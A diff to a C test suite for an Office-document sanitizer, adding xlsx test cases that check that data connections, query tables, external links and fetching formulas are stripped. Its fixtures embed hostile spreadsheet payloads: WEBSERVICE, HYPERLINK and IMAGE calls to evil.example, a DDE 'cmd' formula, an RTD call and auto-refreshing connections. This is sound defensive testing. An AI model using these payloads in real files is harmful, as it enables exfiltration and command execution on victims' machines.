@@ -8,7 +8,10 @@
  *   INCLUDE fields, fields whose keyword a nested field makes, HYPERLINK/
  *   MACROBUTTON and other non-allowlisted fields, external hyperlink,
  *   customUI, media parts by content (a PE named image1.png, a PNG with a
- *   PE appended, a fake EMF, an uncheckable type), DTD/XXE, bad names, not a
+ *   PE appended, a fake EMF, an uncheckable type), xlsx data connections,
+ *   query tables, external links and formulas that fetch or run
+ *   (WEBSERVICE, HYPERLINK, RTD, DDE "|", shared, defined names, rules),
+ *   DTD/XXE, bad names, not a
  *   zip, OLE2/encrypted); each row says which strings must be gone from
  *   the whole output, which must stay, the note and the output type.  The
  *   real oletools samples must come out without vbaProject/activeX/
@@ -382,6 +385,147 @@ START_TEST(test_rows)
 }
 END_TEST
 
+/* ---- xlsx: data connections, external links, fetching formulas ---- */
+
+#define XLSX_T "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+#define S_NS "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+#define SML "application/vnd.openxmlformats-officedocument.spreadsheetml."
+
+static const struct xrow {
+	const char *name;
+	const char *overrides;      /* extra <Override/> */
+	const char *wb_rels;        /* extra xl/_rels/workbook.xml.rels rows */
+	const char *wb_extra;       /* after <sheets> in workbook.xml */
+	const char *sheet;          /* inside <sheetData> */
+	const char *sheet_tail;     /* after </sheetData> */
+	const char *extra[2][2];
+	const char *gone[3];        /* lower case, in no member or name */
+	const char *kept;
+	const char *note;
+} xrows[] = {
+	{ "connections",
+	  "<Override PartName=\"/xl/connections.xml\" ContentType=\"" SML "connections+xml\"/>",
+	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/connections\" Target=\"connections.xml\"/>",
+	  NULL, NULL, NULL,
+	  { { "xl/connections.xml", "<connections xmlns=\"" S_NS "\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/q.html\"/></connection>"
+	      "<connection id=\"2\" name=\"o\" type=\"1\"><dbPr connection=\"DBQ=\\\\evil.example\\s\\x.mdb;\"/></connection></connections>" } },
+	  { "connections", "evil.example", "refreshonload" }, "sheetData", "connections.xml" },
+	{ "querytable",
+	  "<Override PartName=\"/xl/queryTables/queryTable1.xml\" ContentType=\"" SML "queryTable+xml\"/>",
+	  "<Relationship Id=\"rId6\" Type=\"" R_NS "/queryTable\" Target=\"queryTables/queryTable1.xml\"/>",
+	  NULL, NULL, NULL,
+	  { { "xl/queryTables/queryTable1.xml", "<queryTable xmlns=\"" S_NS "\" name=\"evil\" connectionId=\"1\"/>" } },
+	  { "querytable", "rid6" }, "sheetData", "queryTable1.xml" },
+	{ "external-link",
+	  "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"" SML "externalLink+xml\"/>",
+	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>",
+	  "<externalReferences><externalReference r:id=\"rId7\"/></externalReferences>",
+	  "<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!A1</f><v>5</v></c></row>", NULL,
+	  { { "xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"" S_NS "\"><externalBook/></externalLink>" } },
+	  { "externallink", "externalreference", "[1]sheet1" }, "<v>5</v>", "formula" },
+	{ "webservice", NULL, NULL, NULL,
+	  "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://evil.example/?a=1\")</f><v>cached</v></c></row>", NULL,
+	  { { NULL } }, { "webservice", "evil.example", "t=\"str\"" }, "<t>cached</t>", "formula" },
+	{ "hyperlink-file", NULL, NULL, NULL,
+	  "<row r=\"1\"><c r=\"B1\" t=\"str\"><f>HYPERLINK(\"file://evil.example/s/x.exe\",\"click\")</f><v>click</v></c></row>", NULL,
+	  { { NULL } }, { "file://", "hyperlink" }, "click", "formula" },
+	{ "dde-pipe", NULL, NULL, NULL,
+	  "<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>", NULL,
+	  { { NULL } }, { "calc" }, "<v>0</v>", "formula" },
+	{ "shared-formula", NULL, NULL, NULL,
+	  "<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"0\">RTD(\"x.server\",,B1)</f><v>1</v></c></row>"
+	  "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>2</v></c></row>", NULL,
+	  { { NULL } }, { "rtd(", "si=\"0\"" }, "<v>2</v>", "formula" },
+	{ "defined-name", NULL, NULL,
+	  "<definedNames><definedName name=\"x\">_xlfn.WEBSERVICE(\"http://evil.example/\")</definedName></definedNames>",
+	  NULL, NULL, { { NULL } }, { "evil.example", "definedname" }, "sheetData", "formula" },
+	{ "cf-rule", NULL, NULL, NULL, "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>",
+	  "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>LEN(_xlfn.IMAGE(\"http://evil.example/a.png\"))&gt;0</formula></cfRule></conditionalFormatting>",
+	  { { NULL } }, { "evil.example", "conditionalformatting" }, "<v>1</v>", "formula" },
+	/* harmless formulas stay, also with a denied name inside a string */
+	{ "safe-formula", NULL, NULL,
+	  "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Sheet1!$A$1:$B$2</definedName></definedNames>",
+	  "<row r=\"1\"><c r=\"A1\"><f>SUM(A2:A3)+LEN(\"WEBSERVICE(|[1]\")+Table1[[#This Row],[Col]]</f><v>3</v></c></row>", NULL,
+	  { { NULL } }, { NULL }, "SUM(A2:A3)+LEN(", NULL },
+};
+
+static GBytes *build_xrow(const struct xrow *r)
+{
+	GPtrArray *n = g_ptr_array_new();
+	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
+
+	g_ptr_array_add(n, "[Content_Types].xml");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" SML "sheet.main+xml\"/>"
+	    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"" SML "worksheet+xml\"/>%s</Types>",
+	    r->overrides ? r->overrides : "")));
+	g_ptr_array_add(n, "_rels/.rels");
+	g_ptr_array_add(d, str_bytes(g_strdup("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")));
+	g_ptr_array_add(n, "xl/workbook.xml");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<workbook xmlns=\"" S_NS "\" xmlns:r=\"" R_NS "\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets>%s</workbook>",
+	    r->wb_extra ? r->wb_extra : "")));
+	g_ptr_array_add(n, "xl/_rels/workbook.xml.rels");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/worksheet\" Target=\"worksheets/sheet1.xml\"/>%s</Relationships>",
+	    r->wb_rels ? r->wb_rels : "")));
+	g_ptr_array_add(n, "xl/worksheets/sheet1.xml");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<worksheet xmlns=\"" S_NS "\" xmlns:r=\"" R_NS "\"><sheetData>%s</sheetData>%s</worksheet>",
+	    r->sheet ? r->sheet : "", r->sheet_tail ? r->sheet_tail : "")));
+	for (int i = 0; i < 2 && r->extra[i][0]; i++) {
+		g_ptr_array_add(n, (gpointer)r->extra[i][0]);
+		g_ptr_array_add(d, part_bytes(r->extra[i][1]));
+	}
+	GBytes *z = make_zip(n, d);
+	g_ptr_array_free(n, TRUE);
+	g_ptr_array_unref(d);
+	return z;
+}
+
+START_TEST(test_xlsx)
+{
+	const struct xrow *r = &xrows[_i];
+	GBytes *in = build_xrow(r), *out = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	char *type = NULL;
+
+	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s: %s", r->name,
+	              err.msg);
+	ck_assert_str_eq(type, XLSX_T);
+	GHashTable *h = unzip_all(out);
+	for (int k = 0; k < 3 && r->gone[k]; k++) {
+		ck_assert_msg(!any_contains(h, r->gone[k], true), "%s: part %s",
+		              r->name, r->gone[k]);
+		GHashTableIter it;
+		gpointer key, v;
+		g_hash_table_iter_init(&it, h);
+		while (g_hash_table_iter_next(&it, &key, &v)) {
+			char *low = g_ascii_strdown(((GString *)v)->str, -1);
+			ck_assert_msg(!strstr(low, r->gone[k]), "%s: %s left in %s",
+			              r->name, r->gone[k], (char *)key);
+			g_free(low);
+		}
+	}
+	ck_assert_msg(any_contains(h, r->kept, false), "%s: lost %s", r->name,
+	              r->kept);
+	if (r->note)
+		ck_assert_msg(notes_have(notes, r->note), "%s: no note %s", r->name,
+		              r->note);
+	else
+		ck_assert_msg(notes->len == 0, "%s: note %s", r->name,
+		              (char *)notes->pdata[0]);
+	check_again(out, type);
+	g_hash_table_destroy(h);
+	g_bytes_unref(out);
+	g_bytes_unref(in);
+	g_free(type);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
 START_TEST(test_not_ooxml)
 {
 	static const struct { const char *data, *msg; } bad[] = {
@@ -532,6 +676,7 @@ int main(void)
 	Suite *s = suite_create("ooxml");
 	TCase *tc = tcase_create("ooxml");
 	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
+	tcase_add_loop_test(tc, test_xlsx, 0, G_N_ELEMENTS(xrows));
 	tcase_add_loop_test(tc, test_not_ooxml, 0, 2);
 	tcase_add_test(tc, test_bad_name);
 	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
